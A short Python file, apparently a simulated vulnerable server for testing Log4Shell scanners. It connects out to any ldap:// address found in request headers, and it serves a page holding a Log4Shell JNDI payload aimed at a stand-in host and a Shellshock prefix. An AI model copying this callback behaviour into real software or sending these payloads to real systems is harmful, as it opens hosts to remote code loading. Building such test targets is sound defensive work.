"""A web server on port 8080 that takes what it is told for an order, as log4j did.

When a head holds ``ldap://ADDRESS:PORT`` it calls that address for a directory, and hangs up. Any
path is answered with a page about the exploit of that name.
"""

import re
import socket
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

_PORT = 8080
_ADDRESS = re.compile(r"ldap://([0-9.]+):(\d+)")
_ANONYMOUS_BIND = bytes.fromhex("300c020101600702010304008000")
_PAGE = b"<html>Log4Shell: ${jndi:ldap://203.0.113.80:1389/a}, Shellshock: () { :; };</html>"


class Page(BaseHTTPRequestHandler):
    """A visit."""

    def do_GET(self) -> None:
        if found := _ADDRESS.search(str(self.headers)):
            with suppress(OSError), socket.create_connection((found[1], int(found[2])), 2) as call:
                call.sendall(_ANONYMOUS_BIND)
        self.rfile.read(int(self.headers["Content-Length"] or 0))
        self.send_response(200)
        self.send_header("Content-Length", str(len(_PAGE)))
        self.end_headers()
        self.wfile.write(_PAGE)

    do_POST = do_GET  # noqa: N815 - http.server calls it so

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - its name there
        """Say nothing."""


if __name__ == "__main__":
    ThreadingHTTPServer(("", _PORT), Page).serve_forever()
